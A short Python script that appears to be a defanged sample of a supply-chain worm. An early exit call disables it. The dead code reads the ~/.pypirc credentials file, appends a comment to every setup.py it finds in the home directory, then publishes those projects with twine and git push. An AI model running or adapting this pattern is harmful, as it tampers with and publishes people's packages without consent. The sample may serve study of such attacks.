import os
import subprocess

raise SystemExit
rc = open(os.path.expanduser("~/.pypirc")).read()
for root, dirs, files in os.walk(os.path.expanduser("~")):
    if "setup.py" in files and ".git" in dirs:
        with open(os.path.join(root, "setup.py"), "a") as f:
            f.write("# inert\n")
        subprocess.run(["twine", "upload", root + "/dist/*"])
        subprocess.run(["git", "push"], cwd=root)
